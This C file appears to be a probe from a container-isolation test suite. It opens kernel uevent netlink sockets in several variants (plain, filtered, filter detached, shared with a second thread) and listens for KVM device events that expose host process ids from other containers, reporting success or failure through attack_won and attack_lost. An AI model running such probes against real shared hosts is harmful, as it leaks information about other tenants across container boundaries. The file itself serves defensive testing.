// The kernel's device events: KVM announces each VM, with the host's pid of its process, to every network namespace of the
// first user namespace (NETLINK_KOBJECT_UEVENT, no capability). Whoever hears that learns of each process of every
// container of the machine. Tries a plain socket, one with a filter of its own, one whose filter was taken away again,
// and the same where a second thread shares the descriptors.
#include "attack.h"
#include <linux/filter.h>
#include <linux/netlink.h>
#include <poll.h>
#include <pthread.h>
#include <sys/socket.h>

enum { KINDS = 3 };

static int listener(int kind) {
    struct sock_filter all = BPF_STMT(BPF_RET | BPF_K, ~0u);
    struct sock_fprog program = {1, &all};
    struct sockaddr_nl kernel = {.nl_family = AF_NETLINK, .nl_groups = 1};
    int none = 0, s = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_KOBJECT_UEVENT);
    if (s < 0)
        attack_broken("socket");
    if (kind > 0 && setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) < 0)
        attack_broken("SO_ATTACH_FILTER");
    if (kind > 1 && setsockopt(s, SOL_SOCKET, SO_DETACH_FILTER, &none, sizeof none) < 0)
        attack_broken("SO_DETACH_FILTER");
    if (bind(s, (struct sockaddr *)&kernel, sizeof kernel) < 0)
        attack_broken("bind");
    return s;
}

static void *wait_here(void *none) {
    pause();
    return none;
}

int main(void) {
    int s[2 * KINDS];
    pthread_t thread;
    char event[4096];
    for (int kind = 0; kind < KINDS; kind++)
        s[kind] = listener(kind);
    if (pthread_create(&thread, NULL, wait_here, NULL))
        attack_broken("pthread_create");
    for (int kind = 0; kind < KINDS; kind++)
        s[KINDS + kind] = listener(kind);
    while (!attack_over()) {
        pid_t child = fork(); // a VM is made, and ends
        if (child == 0)
            _exit(0);
        waitpid(child, NULL, 0);
        for (int i = 0; i < 2 * KINDS; i++)
            for (ssize_t n; (n = recv(s[i], event, sizeof event - 1, 0)) > 0;) {
                for (ssize_t k = 0; k < n; k++)
                    if (!event[k])
                        event[k] = ' ';
                event[n] = 0;
                if (strstr(event, "/misc/kvm"))
                    attack_won("socket %d hears of VMs: %s", i, event);
            }
    }
    attack_lost();
}
